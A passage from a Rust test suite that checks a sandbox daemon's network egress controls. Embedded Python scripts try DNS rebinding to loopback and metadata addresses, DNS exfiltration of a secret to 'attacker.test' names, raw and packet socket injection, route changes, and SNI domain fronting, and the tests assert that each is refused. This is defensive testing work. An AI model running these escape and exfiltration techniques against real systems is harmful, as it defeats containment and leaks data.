            (&lite["host"], &lite["reason"]),
            (
                &serde_json::json!("203.0.113.10"),
                &serde_json::json!("not_granted")
            )
        );
    }
    assert!(
        run.network()["refused"].as_u64().unwrap() >= 1,
        "{}",
        run.json
    );
}

// ---- rebinding --------------------------------------------------------------

/// A granted name first answers the public address (the control: served),
/// then `answer`: spawnd resolves it again, refuses every address
/// (`resolved_to_denied_address`, `denial` starting with `denial`), and
/// the server at `target:8080` accepts nothing, though the world reaches
/// it.
fn assert_rebinding_is_refused(s: &Setup, answer: &[IpAddr], target: &str, denial: &str) {
    let public = serve(&s.world, at(WORLD_IP, 8080), Peer::Http("public"));
    let inner = serve(&s.world, at(target, 8080), Peer::Http("inner"));
    let m = s.manifest("m.toml", &["api.test:8080"], "", "");
    let body = "attempt(\"get\", lambda: get(\"api.test\", 8080))\nfinish()\n";
    let (_run, r) = s.attack(&m, "public", body);
    assert_eq!(result(&r, "get"), "reply:public", "{r}");
    assert_eq!(public.accepted(), 1);
    let questions = s.world.dns_queries().len();

    s.world.map("api.test", answer);
    let (run, r) = s.attack(&m, "rebound", body);
    assert_not_served(&r, "get");
    assert_eq!(inner.accepted(), 0, "{target} reached: {}", run.json);
    assert_eq!(public.accepted(), 1);
    assert!(s.world.dns_queries().len() > questions, "not asked again");
    let c = listed(&run, "api.test", 8080);
    assert_eq!(c["reason"], "resolved_to_denied_address", "{c}");
    assert!(
        c["denial"].as_str().unwrap_or("").starts_with(denial),
        "{c}"
    );
    refusal_record(
        &s.net_records(),
        "api.test",
        8080,
        "resolved_to_denied_address",
    );

    // The server there is up and counts: the world reaches it.
    reach_from_the_world(&s.world, at(target, 8080));
    assert_eq!(inner.accepted(), 1);
}

#[test]
fn rebinding_a_granted_name_to_the_hosts_loopback_is_refused() {
    let Some(s) = Setup::new(&[]) else { return };
    assert_rebinding_is_refused(&s, &[ip("127.0.0.1")], "127.0.0.1", "loopback");
}

#[test]
fn rebinding_a_granted_name_to_the_metadata_service_is_refused() {
    let Some(s) = Setup::new(&[]) else { return };
    s.world.add_address(ip("169.254.169.254"));
    assert_rebinding_is_refused(&s, &[ip("169.254.169.254")], "169.254.169.254", "metadata");
}

#[test]
fn rebinding_a_granted_name_to_a_private_address_is_refused_unless_the_operator_allows_its_range() {
    let Some(s) = Setup::new(&[]) else { return };
    s.world.add_address(ip("10.0.0.5"));
    assert_rebinding_is_refused(&s, &[ip("10.0.0.5")], "10.0.0.5", "private");
    // The operator's allow_cidrs is what decides: with 10.0.0.0/8 allowed
    // the same run reaches 10.0.0.5 (one more accept after the world's).
    let config = operator_config(&s.world, "private", &["10.0.0.0/8"]);
    let m = s.world.path("m.toml");
    let arg = s.script(
        "allowed",
        "attempt(\"get\", lambda: get(\"api.test\", 8080))\nfinish()\n",
    );
    let run = Run::of(&mut run_command(s.world.spawnd(&config), &m, "py", &[arg]));
    assert_eq!(result(&results(&run), "get"), "reply:inner", "{}", run.json);
}

#[test]
fn rebinding_through_ipv6_forms_of_loopback_and_metadata_is_refused() {
    let Some(s) = Setup::new(&[]) else { return };
    s.world.add_address(ip("169.254.169.254"));
    // Only AAAA answers: an IPv4-mapped loopback address.
    assert_rebinding_is_refused(&s, &[ip("::ffff:127.0.0.1")], "127.0.0.1", "loopback");
    let metadata = serve(&s.world, at("169.254.169.254", 8080), Peer::Http("md"));
    let m = s.world.path("m.toml");
    for answer in ["64:ff9b::a9fe:a9fe", "::ffff:169.254.169.254"] {
        s.world.map("api.test", &[ip(answer)]);
        let (run, r) = s.attack(
            &m,
            "embedded",
            "attempt(\"get\", lambda: get(\"api.test\", 8080))\nfinish()\n",
        );
        assert_not_served(&r, "get");
        let c = listed(&run, "api.test", 8080);
        assert_eq!(c["reason"], "resolved_to_denied_address", "{answer}: {c}");
        assert!(
            c["denial"].as_str().unwrap_or("").starts_with("metadata"),
            "{answer}: {c}"
        );
    }
    assert_eq!(metadata.accepted(), 0);
}

#[test]
fn a_name_answering_loopback_and_metadata_beside_a_public_address_is_dialed_only_at_the_public_one()
{
    let Some(s) = Setup::new(&[]) else { return };
    s.world.add_address(ip("169.254.169.254"));
    s.world.map(
        "api.test",
        &[ip("127.0.0.1"), ip("169.254.169.254"), ip(WORLD_IP)],
    );
    let public = serve(&s.world, at(WORLD_IP, 8080), Peer::Http("public"));
    let loopback = serve(&s.world, at("127.0.0.1", 8080), Peer::Http("loopback"));
    let metadata = serve(&s.world, at("169.254.169.254", 8080), Peer::Http("md"));
    let m = s.manifest("m.toml", &["api.test:8080"], "", "");
    let (run, r) = s.attack(
        &m,
        "mixed",
        "for i in range(5):\n    attempt(\"get%d\" % i, lambda: get(\"api.test\", 8080))\nfinish()\n",
    );
    for i in 0..5 {
        assert_eq!(result(&r, &format!("get{i}")), "reply:public", "{r}");
    }
    assert_eq!(public.accepted(), 5);
    assert_eq!((loopback.accepted(), metadata.accepted()), (0, 0));
    assert!(
        run.connections()
            .iter()
            .all(|c| c["dialed"] == format!("{WORLD_IP}:8080")),
        "{}",
        run.json
    );
    // The servers there are up and count.
    reach_from_the_world(&s.world, at("127.0.0.1", 8080));
    reach_from_the_world(&s.world, at("169.254.169.254", 8080));
    assert_eq!((loopback.accepted(), metadata.accepted()), (1, 1));
}

#[test]
fn a_name_that_flips_to_loopback_mid_run_is_refused_on_the_next_connection() {
    let Some(s) = Setup::new(&[]) else { return };
    let public = serve(&s.world, at(WORLD_IP, 8080), Peer::Http("public"));
    let loopback = serve(&s.world, at("127.0.0.1", 8080), Peer::Http("loopback"));
    let m = s.manifest("m.toml", &["api.test:8080"], "", "");
    let arg = s.script(
        "flip",
        r#"
attempt("before", lambda: get("api.test", 8080))
open(OUT + "/first-done", "w").close()
deadline = time.time() + 60
while not os.path.exists(OUT + "/flipped") and time.time() < deadline:
    time.sleep(0.05)
attempt("after", lambda: get("api.test", 8080))
attempt("again", lambda: get("api.test", 8080))
finish()
"#,
    );
    let run = std::thread::scope(|scope| {
        let running = scope.spawn(|| s.run(&m, "py", &[arg]));
        let first = s.world.path("out/first-done");
        let started = Instant::now();
        while !first.exists() && started.elapsed() < Duration::from_secs(60) {
            std::thread::sleep(Duration::from_millis(20));
        }
        s.world.map("api.test", &[ip("127.0.0.1")]);
        std::fs::write(s.world.path("out/flipped"), "").unwrap();
        running.join().unwrap()
    });
    let r = results(&run);
    assert_eq!(result(&r, "before"), "reply:public", "{r}");
    assert_not_served(&r, "after");
    assert_not_served(&r, "again");
    assert_eq!(public.accepted(), 1);
    assert_eq!(loopback.accepted(), 0);
    assert_eq!(
        refusals(&run, "api.test", 8080, "resolved_to_denied_address"),
        2,
        "{}",
        run.json
    );
}

// ---- DNS --------------------------------------------------------------------

#[test]
fn dns_to_an_outside_resolver_is_refused_and_recorded_and_the_resolver_never_hears_the_name() {
    let Some(s) = Setup::new(&[]) else { return };
    s.world.add_address(ip("203.0.113.53"));
    s.world.dns_also_on(at("203.0.113.53", 53));
    let tcp53 = serve(&s.world, at("203.0.113.53", 53), Peer::Hold);
    let api = serve(&s.world, at(WORLD_IP, 8080), Peer::Http("api"));
    let m = s.manifest("m.toml", &["api.test:8080"], "", "");
    let (_run, r) = s.attack(
        &m,
        "resolver",
        r#"
attempt("udp", lambda: dns_udp("203.0.113.53", "udp-exfil.attacker.test", 1))
attempt("tcp", lambda: dns_tcp("203.0.113.53", "tcp-exfil.attacker.test", 1))
attempt("public", lambda: dns_udp("8.8.8.8", "google-exfil.attacker.test", 1))
attempt("v6", lambda: dns_udp("2001:4860:4860::8888", "v6-exfil.attacker.test", 1))
attempt("stub_via_pool", lambda: dns_udp("198.18.0.99", "pool-exfil.attacker.test", 1))
attempt("granted", lambda: get("api.test", 8080))
finish()
"#,
    );
    // Refused at once by the sandbox's rules (a datagram's send fails, a
    // connection is reset), and recorded.
    for label in ["udp", "public", "v6"] {
        assert_eq!(result(&r, label), "EPERM", "{label}: {r}");
    }
    assert_eq!(result(&r, "tcp"), "ECONNREFUSED", "{r}");
    let records = s.net_records();
    datagram_refusal(&records, "203.0.113.53", 53);
    datagram_refusal(&records, "8.8.8.8", 53);
    datagram_refusal(&records, "[2001:4860:4860::8888]", 53);
    refusal_record(&records, "203.0.113.53", 53, "not_granted");
    // The stub answers on the loopback alone: a query to an address of
    // the fake pool is refused the same way.
    assert_eq!(result(&r, "stub_via_pool"), "EPERM", "{r}");
    datagram_refusal(&s.net_records(), "198.18.0.99", 53);
    assert_eq!(result(&r, "granted"), "reply:api", "{r}");
    assert_eq!(api.accepted(), 1);
    assert_eq!(tcp53.accepted(), 0);
    assert!(
        asked(&s.world).iter().all(|n| !n.contains("attacker")),
        "{:?}",
        asked(&s.world)
    );
    // The control: the same question from the world reaches that resolver
    // and is logged.
    let socket = s.world.in_world(|| UdpSocket::bind("0.0.0.0:0").unwrap());
    socket
        .set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    let query = a_query("control.attacker.test");
    socket.send_to(&query, "203.0.113.53:53").unwrap();
    let mut reply = [0u8; 512];
    crate::harness::uninterrupted(|| socket.recv_from(&mut reply)).unwrap();
    assert!(
        asked(&s.world).contains("control.attacker.test"),
        "{:?}",
        asked(&s.world)
    );
}

/// An A query for `name`, as bytes (RFC 1035: header, labels, type,
/// class).
fn a_query(name: &str) -> Vec<u8> {
    let mut query = vec![0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        query.push(label.len() as u8);
        query.extend_from_slice(label.as_bytes());
    }
    query.extend_from_slice(&[0, 0, 1, 0, 1]);
    query
}

#[test]
fn dns_exfiltration_through_the_stub_never_reaches_the_world_and_every_name_is_accounted() {
    let Some(s) = Setup::new(&[]) else { return };
    let api = serve(&s.world, at(WORLD_IP, 8080), Peer::Http("api"));
    let m = s.manifest("m.toml", &["api.test:8080"], "", "");
    let (run, r) = s.attack(
        &m,
        "exfil",
        r#"
secret = "secret-data-7f3a"
failed = 0
for i in range(100):
    for family in (socket.AF_INET, socket.AF_INET6):
        if outcome(lambda: socket.getaddrinfo("%s-%d.attacker.test" % (secret, i), 443, family)) != "gaierror":
            failed += 1
RESULTS["resolved"] = failed
attempt("txt_udp", lambda: dns_udp("127.0.0.1", secret + "-txt.attacker.test", 16))
attempt("txt_tcp", lambda: dns_tcp("127.0.0.1", secret + "-tcp.attacker.test", 16))
attempt("v6_stub", lambda: dns_udp("::1", secret + "-v6.attacker.test", 1))
attempt("under_granted", lambda: dns_udp("127.0.0.1", secret + ".api.test", 1))
attempt("granted", lambda: get("api.test", 8080))
finish()
"#,
    );
    assert_eq!(run.code(), Some(0), "{}", run.json);
    assert_eq!(r["resolved"], 0, "{r}");
    for label in ["txt_udp", "txt_tcp", "v6_stub", "under_granted"] {
        assert_eq!(result(&r, label), "rcode=3 answers=0", "{label}: {r}");
    }
    assert_eq!(result(&r, "granted"), "reply:api", "{r}");
    assert_eq!(api.accepted(), 1);
    // The world heard only spawnd's question for the granted name.
    assert_eq!(asked(&s.world), BTreeSet::from(["api.test".to_string()]));
    // Each refused name and type is accounted: the first 64 one by one
    // (result and audit), the rest counted.
    let network = run.network();
    let listed = network["dns_refused"].as_array().unwrap();
    assert_eq!(listed.len(), 64, "{network}");
    assert!(
        listed
            .iter()
            .all(|d| d["name"].as_str().unwrap().contains("attacker.test")),
        "{network}"
    );
    assert!(
        network["dns_refused_more"].as_u64().unwrap() > 100,
        "{network}"
    );
    let dns_records: Vec<Value> = s
        .net_records()
        .into_iter()
        .filter(|r| r["protocol"] == "dns")
        .collect();
    assert_eq!(dns_records.len(), 64);
    assert_eq!(dns_records[0]["query"], "secret-data-7f3a-0.attacker.test");
}

#[test]
fn txt_any_axfr_and_other_types_for_a_granted_name_carry_nothing_and_are_not_forwarded() {
    let Some(s) = Setup::new(&[]) else { return };
    let api = serve(&s.world, at(WORLD_IP, 8080), Peer::Http("api"));
    let m = s.manifest("m.toml", &["api.test:8080"], "", "");
    let (_run, r) = s.attack(
        &m,
        "types",
        r#"
for name, qtype in [("a", 1), ("aaaa", 28), ("txt", 16), ("mx", 15), ("cname", 5),
                    ("https", 65), ("svcb", 64), ("any", 255), ("ns", 2), ("soa", 6)]:
    attempt(name, lambda: dns_udp("127.0.0.1", "api.test", qtype))
attempt("axfr", lambda: dns_tcp("127.0.0.1", "api.test", 252))
attempt("any_tcp", lambda: dns_tcp("127.0.0.1", "api.test", 255))
attempt("granted", lambda: get("api.test", 8080))
finish()
"#,
    );
    assert_eq!(result(&r, "a"), "rcode=0 answers=1", "{r}");
    assert_eq!(result(&r, "granted"), "reply:api", "{r}");
    assert_eq!(api.accepted(), 1);
    for label in [
        "aaaa", "txt", "mx", "cname", "https", "svcb", "any", "ns", "soa", "axfr", "any_tcp",
    ] {
        // No answer records, or (for a zone transfer) no reply at all.
        let got = result(&r, label);
        assert!(
            got.ends_with("answers=0") || got == "ConnectionError",
            "{label}: {r}"
        );
    }
    // spawnd asked the world for the name's addresses, and nothing else.
    let queries = s.world.dns_queries();
    assert!(!queries.is_empty());
    assert!(
        queries
            .iter()
            .all(|q| q.name == "api.test"
                && matches!(q.record_type, RecordType::A | RecordType::AAAA)),
        "{queries:?}"
    );
}

// ---- sockets ------------------------------------------------------------------

/// The raw-socket attack: a UDP datagram to 203.0.113.10:9999 through a
/// raw socket, raw ICMP and IPv6 sockets, and a ping socket.
const RAW: &str = r#"
def raw_udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    try:
        payload = b"raw escape"
        s.sendto(struct.pack(">HHHH", 40000, 9999, 8 + len(payload), 0) + payload, ("203.0.113.10", 0))
        return "sent"
    finally:
        s.close()
def ping():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    try:
        s.sendto(b"\x08\0\0\0\0\0\0\0", ("203.0.113.10", 0))
        return "sent"
    finally:
        s.close()
attempt("raw_udp", raw_udp)
attempt("raw_icmp", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close())
attempt("raw_v6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_UDP).close())
attempt("ping", ping)
finish()
"#;

#[test]
fn raw_sockets_are_refused_and_nothing_arrives_while_the_same_code_outside_delivers() {
    let Some(s) = Setup::new(&[]) else { return };
    let udp = s.world.udp_server(at(WORLD_IP, 9999));
    let m = s.manifest("m.toml", &["api.test:8080"], "", "");
    let (_run, r) = s.attack(&m, "raw", RAW);
    for label in ["raw_udp", "raw_icmp", "raw_v6"] {
        assert_eq!(result(&r, label), "EPERM", "{label}: {r}");
    }
    assert_ne!(result(&r, "ping"), "sent", "{r}");
    std::thread::sleep(Duration::from_millis(200));
    assert_eq!(udp.received(), 0);
    // The control: the same script as root in the world delivers.
    let outside = s.outside("raw");
    assert_eq!(result(&outside, "raw_udp"), "sent", "{outside}");
    assert!(eventually(|| udp.received() == 1), "{}", udp.received());
}

#[test]
fn packet_sockets_are_refused_and_no_frame_arrives_while_the_same_code_outside_injects_one() {
    let Some(s) = Setup::new(&[]) else { return };
    let udp = s.world.udp_server(at(WORLD_IP, 9999));
    let m = s.manifest("m.toml", &["api.test:8080"], "", "");
    let (_run, r) = s.attack(
        &m,
        "packet",
        r#"
def checksum(b):
    total = sum(struct.unpack(">%dH" % (len(b) // 2), b))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
def frame():
    payload = b"packet escape"
    udp = struct.pack(">HHHH", 40001, 9999, 8 + len(payload), 0) + payload
    header = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                         socket.inet_aton("198.51.100.7"), socket.inet_aton("203.0.113.10"))
    header = header[:10] + struct.pack(">H", checksum(header)) + header[12:]
    return b"\0" * 12 + b"\x08\x00" + header + udp
def packet(kind):
    s = socket.socket(socket.AF_PACKET, kind, socket.htons(0x0800))
    try:
        s.bind(("lo", 0))
        s.send(frame())
        return "sent"
    finally:
        s.close()
attempt("packet_raw", lambda: packet(socket.SOCK_RAW))
attempt("packet_dgram", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0).close())
finish()
"#,
    );
    for label in ["packet_raw", "packet_dgram"] {
        assert_eq!(result(&r, label), "EPERM", "{label}: {r}");
    }
    std::thread::sleep(Duration::from_millis(200));
    assert_eq!(udp.received(), 0);
    // The control: the same script as root where 203.0.113.10 is an
    // address (on the internet) injects a frame that arrives.
    let outside = s.outside_in(s.world.internet_name(), "packet");
    assert_eq!(result(&outside, "packet_raw"), "sent", "{outside}");
    assert!(eventually(|| udp.received() == 1), "{}", udp.received());
}

/// Adds a `local default dev lo` route over rtnetlink and an address by
/// ioctl (SIOCSIFADDR on `lo:9`), then tries 203.0.113.10.
const ROUTES: &str = r#"
def netlink_route():
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    try:
        s.bind((0, 0))
        body = struct.pack("=BBBBBBBBI", socket.AF_INET, 0, 0, 0, 255, 3, 254, 2, 0) + struct.pack("=HHI", 8, 4, 1)
        s.send(struct.pack("=IHHII", 16 + len(body), 24, 0x1 | 0x4 | 0x400 | 0x200, 1, 0) + body)
        error = struct.unpack("=i", s.recv(4096)[16:20])[0]
        return "route added" if error == 0 else errno.errorcode.get(-error, str(error))
    finally:
        s.close()
def ioctl_address():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        request = struct.pack("16sH2s4s8s", b"lo:9", socket.AF_INET, b"\0\0", socket.inet_aton("203.0.113.10"), b"\0" * 8)
        fcntl.ioctl(s, 0x8916, request)
        return "address added"
    finally:
        s.close()
attempt("netlink_route", netlink_route)
attempt("ioctl_address", ioctl_address)
if "--no-connect" not in sys.argv:
    attempt("after", lambda: exchange("203.0.113.10", 8080))
finish()
"#;

#[test]
fn netlink_and_ioctl_cannot_add_a_route_or_an_address_while_root_in_a_fresh_namespace_can() {
    let Some(s) = Setup::new(&[]) else { return };
    let api = serve(&s.world, at(WORLD_IP, 8080), Peer::Http("api"));
    let m = s.manifest("m.toml", &["api.test:8080"], "", "");
    let (_run, r) = s.attack(&m, "routes", ROUTES);
    assert_eq!(result(&r, "netlink_route"), "EPERM", "{r}");
    assert_eq!(result(&r, "ioctl_address"), "EPERM", "{r}");
    // Every address is the sandbox's own already: on the granted port
    // spawnd's listener resets the address nobody granted.
    assert_eq!(result(&r, "after"), "ECONNRESET", "{r}");
    assert_eq!(api.accepted(), 0);
    refusal_record(&s.net_records(), "203.0.113.10", 8080, "not_granted");
    // The control: the same code as root in a fresh network namespace.
    let out = run_checked(
        Command::new("unshare")
            .args(["--net", PYTHON])
            .arg(s.script_path("routes"))
            .arg("--no-connect"),
    );
    let outside = last_json_line(&String::from_utf8_lossy(&out.stdout));
    assert_eq!(
        result(&outside, "netlink_route"),
        "route added",
        "{outside}"
    );
    assert_eq!(
        result(&outside, "ioctl_address"),
        "address added",
        "{outside}"
    );
}

#[test]
fn ipv6_destinations_are_refused_and_recorded_unless_granted_as_literals() {
    let Some(s) = Setup::new(&[]) else { return };
    s.world.add_address(ip("2001:db8::10"));
    let v6 = serve(&s.world, at("2001:db8::10", 8080), Peer::Http("v6"));
    let granted = serve(&s.world, at("2001:db8::10", 8081), Peer::Http("granted v6"));
    let api = serve(&s.world, at(WORLD_IP, 8080), Peer::Http("api"));
    let m = s.manifest("m.toml", &["api.test:8080", "[2001:db8::10]:8081"], "", "");
    let (run, r) = s.attack(
        &m,
        "ipv6",
        r#"
attempt("granted", lambda: exchange("2001:db8::10", 8081))
attempt("other_port", lambda: exchange("2001:db8::10", 8080))
attempt("documentation", lambda: exchange("2001:db8::1", 443))
attempt("public", lambda: exchange("2606:4700::1111", 443))
attempt("link_local", lambda: exchange("fe80::1%lo", 8080))
attempt("aaaa", lambda: socket.getaddrinfo("api.test", 8080, socket.AF_INET6))
finish()
"#,
    );
    assert_eq!(result(&r, "granted"), "reply:granted v6", "{r}");
    assert_eq!(granted.accepted(), 1);
    // The literal grant routes 2001:db8::10 to the sandbox's listeners:
    // on the other grant's port spawnd resets it.
    assert_not_served(&r, "other_port");
    let records = s.net_records();
    refusal_record(&records, "[2001:db8::10]", 8080, "not_granted");
    // Ports nobody granted: refused by the sandbox's rules, recorded.
    assert_eq!(result(&r, "documentation"), "ECONNREFUSED", "{r}");
    assert_eq!(result(&r, "public"), "ECONNREFUSED", "{r}");
    refusal_record(&records, "[2001:db8::1]", 443, "not_granted");
    refusal_record(&records, "[2606:4700::1111]", 443, "not_granted");
    assert_not_served(&r, "link_local");
    // The stub gives a granted name no IPv6 address.
    assert_eq!(result(&r, "aaaa"), "gaierror", "{r}");
    assert_eq!(v6.accepted(), 0);
    assert_eq!(api.accepted(), 0);
    let reached = run
        .connections()
        .into_iter()
        .filter(|c| c["connected"] == true)
        .count();
    assert_eq!(reached, 1, "{}", run.json);
}

// ---- TLS ----------------------------------------------------------------------

/// The TLS tests' server, on `api.test:8443`, keeping the bytes it
/// receives per connection, and their manifest; the control has run: a
/// ClientHello naming `api.test` arrived whole.
fn tls_setup(s: &Setup) -> (Arc<Seen>, PathBuf) {
    let server = serve(&s.world, at(WORLD_IP, 8443), Peer::Hold);
    let m = s.manifest("m.toml", &["api.test:8443"], "", "");
    let (_run, r) = s.attack(
        &m,
        "control",
        r#"
hello = client_hello("api.test")
RESULTS["length"] = len(hello)
attempt("send", lambda: first_flight(resolve("api.test"), 8443, [hello]))
finish()
"#,
    );
    assert_eq!(result(&r, "send"), "closed", "{r}");
    let length = r["length"].as_u64().unwrap() as usize;
    assert!(
        eventually(|| server.bytes() == [length]),
        "{:?}",
        server.bytes()
    );
    (server, m)
}

#[test]
fn domain_fronting_by_sni_is_refused_before_any_byte_of_the_hello_reaches_the_server() {
    let Some(s) = Setup::new(&[]) else { return };
    let (server, m) = tls_setup(&s);
    let (run, r) = s.attack(
        &m,
        "fronting",
        r#"
fake = resolve("api.test")
evil = client_hello("evil.test")
attempt("whole", lambda: first_flight(fake, 8443, [evil]))
attempt("two_records", lambda: first_flight(fake, 8443, [in_two_records(evil, 40)]))
attempt("byte_by_byte", lambda: first_flight(fake, 8443, [evil[i:i + 1] for i in range(len(evil))], 0.002))
attempt("suffix", lambda: first_flight(fake, 8443, [client_hello("api.test.evil.test")]))
# Record bytes Go's TLS server accepts: any version below 16.0 in a first
# record, and a warning alert skipped before the hello.
attempt("record_version_0_1", lambda: first_flight(fake, 8443, [b"\x16\x00\x01" + evil[3:]]))
attempt("alert_0_1_first", lambda: first_flight(fake, 8443, [b"\x15\x00\x01\x00\x02\x01\x5a" + evil]))
finish()
"#,
    );
    let labels = [
        "whole",
        "two_records",
        "byte_by_byte",
        "suffix",
        "record_version_0_1",
        "alert_0_1_first",
    ];
    for label in labels {
        assert_ne!(result(&r, label), "answered", "{label}: {r}");
    }
    // spawnd dials before it reads the first flight (so servers that
    // speak first work); the server sees each connection open and close
    // with nothing received.
    assert!(
        eventually(|| server.bytes().len() == 1 + labels.len()),
        "{:?}",
        server.bytes()
    );
    assert!(
        server.bytes()[1..].iter().all(|&n| n == 0),
        "{:?}",
        server.bytes()
    );
    let refused: Vec<&Value> = run
        .connections()
        .into_iter()
        .filter(|c| c["allowed"] == false)
        .collect();
    assert!(
        refused
            .iter()
            .any(|c| c["reason"] == "sni_mismatch" && c["sni"] == "evil.test"),
        "{}",
        run.json
    );
    assert_eq!(
        refused_after_dial(&run, "api.test", 8443, "sni_mismatch")
            + refused_after_dial(&run, "api.test", 8443, "malformed_client_hello"),
        labels.len(),
        "{}",
        run.json
    );
    // Each refused connection has its own record in the audit trail.
    let records = s.net_records();
    let refused = records
        .iter()
        .filter(|r| {
            r["port"] == 8443
                && r["allowed"] == false
                && (r["reason"] == "sni_mismatch" || r["reason"] == "malformed_client_hello")
        })
        .count();
    assert_eq!(refused, labels.len(), "{records:#?}");
    let record = refusal_record(&records, "api.test", 8443, "sni_mismatch");
    assert_eq!(record["sni"], "evil.test", "{record}");
    // The two that are TLS to a server but not a hello spawnd reads say
    // what was wrong.
    for error in [
        "record version 0.1",
        "TLS record type 21 before the ClientHello",
    ] {
        assert!(
            records
                .iter()
                .any(|r| r["reason"] == "malformed_client_hello" && r["error"] == error),
            "{error}: {records:#?}"
        );
    }
}

#[test]
fn a_hello_without_sni_or_a_malformed_one_is_refused_before_reaching_the_server() {
    let Some(s) = Setup::new(&[]) else { return };
    let (server, m) = tls_setup(&s);
    let (run, r) = s.attack(
        &m,
        "nosni",
        r#"
fake = resolve("api.test")
attempt("no_sni", lambda: first_flight(fake, 8443, [client_hello(None)]))
hello = client_hello("api.test")
attempt("truncated", lambda: first_flight(fake, 8443, [hello[:60]]))
attempt("alert_first", lambda: first_flight(fake, 8443, [b"\x15\x03\x01\x00\x02\x01\x00" + hello]))
finish()
"#,
    );
    for label in ["no_sni", "truncated", "alert_first"] {
        assert_ne!(result(&r, label), "answered", "{label}: {r}");
    }
    assert!(
        eventually(|| server.bytes().len() == 4),
        "{:?}",
        server.bytes()
    );
    assert!(
        server.bytes()[1..].iter().all(|&n| n == 0),
        "{:?}",
        server.bytes()
    );
    assert_eq!(
        refused_after_dial(&run, "api.test", 8443, "sni_missing"),
        1,
        "{}",
        run.json
    );
    assert_eq!(
        refused_after_dial(&run, "api.test", 8443, "malformed_client_hello"),
        2,
        "{}",
        run.json
    );
    refusal_record(&s.net_records(), "api.test", 8443, "sni_missing");
}

#[test]
fn an_encrypted_client_hello_is_refused_even_when_its_outer_name_is_the_granted_one() {
    let Some(s) = Setup::new(&[]) else { return };
    let (server, m) = tls_setup(&s);
    let (run, r) = s.attack(
        &m,
        "ech",
        r#"
fake = resolve("api.test")
hello = client_hello("api.test")
unknown = with_extension(hello, 0x7777, b"")
RESULTS["unknown_length"] = len(unknown)
attempt("unknown", lambda: first_flight(fake, 8443, [unknown]))
ech = with_extension(hello, 0xfe0d, b"\0\0\x01\0\x01\x07\0\x20" + os.urandom(32) + b"\0\x40" + os.urandom(64))
attempt("ech", lambda: first_flight(fake, 8443, [ech]))
attempt("esni", lambda: first_flight(fake, 8443, [with_extension(hello, 0xffce, os.urandom(48))]))
finish()
"#,
    );
    // The control: an extension the classifier does not know passes, and
    // the server receives that hello whole.
    assert_eq!(result(&r, "unknown"), "closed", "{r}");
    let unknown = r["unknown_length"].as_u64().unwrap() as usize;
    assert!(
        eventually(|| server.bytes().len() == 4),
        "{:?}",
        server.bytes()
    );
    let bytes = server.bytes();
    assert!(bytes.contains(&unknown), "{bytes:?}");
    // The encrypted ones arrive nowhere: the name that counts is inside.
    assert_eq!(bytes.iter().filter(|&&n| n == 0).count(), 2, "{bytes:?}");
    for label in ["ech", "esni"] {
        assert_ne!(result(&r, label), "answered", "{label}: {r}");
    }
    assert_eq!(
        refused_after_dial(&run, "api.test", 8443, "malformed_client_hello"),
        2,
        "{}",
        run.json
    );
}

// ---- the host's own services -------------------------------------------------

#[test]
fn the_hosts_loopback_services_are_unreachable_unless_granted_as_a_literal() {
    let Some(s) = Setup::new(&[]) else { return };
    // The world's loopback is spawnd's own: the host's local services.
    let lo_8080 = serve(&s.world, at("127.0.0.1", 8080), Peer::Http("lo 8080"));
    let lo6_8080 = serve(&s.world, at("::1", 8080), Peer::Http("lo6 8080"));
    let lo_9999 = serve(&s.world, at("127.0.0.1", 9999), Peer::Http("lo 9999"));
    let lo_8081 = serve(&s.world, at("127.0.0.1", 8081), Peer::Http("lo 8081"));
    let m = s.manifest(
        "m.toml",
        &["api.test:8080", "127.0.0.1:8081"],
        "",
        "[capabilities.spawn.operations.narrow]\nargv = \"python3 {script}\"\n\
         network = [\"api.test:8080\"]\n",
    );
    let arg = s.script(
        "loopback",
        r#"
attempt("lo_8080", lambda: exchange("127.0.0.1", 8080))
attempt("lo6_8080", lambda: exchange("::1", 8080))
attempt("lo2_8080", lambda: exchange("127.0.0.2", 8080))
attempt("any_8080", lambda: exchange("0.0.0.0", 8080))
attempt("lo_9999", lambda: exchange("127.0.0.1", 9999))
attempt("lo_8081", lambda: exchange("127.0.0.1", 8081))
def own_loopback():
    server = socket.create_server(("127.0.0.1", 9998))
    client = socket.create_connection(("127.0.0.1", 9998), timeout=5)
    peer, _ = server.accept()
    client.sendall(b"mine")
    got = peer.recv(4)
    for sock in (client, peer, server):
        sock.close()
    return got.decode()
attempt("own", own_loopback)
finish()
"#,
    );
    let run = s.run(&m, "narrow", std::slice::from_ref(&arg));
    let r = results(&run);
    for label in ["lo_8080", "lo6_8080", "lo2_8080", "any_8080"] {
        assert_not_served(&r, label);
    }
    assert_eq!(result(&r, "lo_9999"), "ECONNREFUSED", "{r}");
    assert_eq!(result(&r, "lo_8081"), "ECONNREFUSED", "{r}");
    // The sandbox's own loopback is its own.
    assert_eq!(result(&r, "own"), "mine", "{r}");
    for server in [&lo_8080, &lo6_8080, &lo_9999, &lo_8081] {
        assert_eq!(server.accepted(), 0);
    }
    let records = s.net_records();
    refusal_record(&records, "127.0.0.1", 8080, "not_granted");
    refusal_record(&records, "[::1]", 8080, "not_granted");
    // The control: the operation granted 127.0.0.1:8081 as a literal
    // reaches that very service.
    let granted = s.run(&m, "py", &[arg]);
    assert_eq!(
        result(&results(&granted), "lo_8081"),
        "reply:lo 8081",
        "{}",
        granted.json
    );
    assert_eq!(lo_8081.accepted(), 1);
    assert_eq!(lo_8080.accepted(), 0);
}

/// The host's own public-looking address, on an interface of the world
/// (spawnd's host), in the range the operator allows.
const HOST_PUBLIC: &str = "203.0.113.7";

#[test]
fn a_granted_name_resolving_to_an_address_of_the_host_reaches_no_host_service_unless_granted_as_a_literal(
) {
    let Some(s) = Setup::new(&[]) else { return };
    s.world.add_host_address(ip(HOST_PUBLIC));
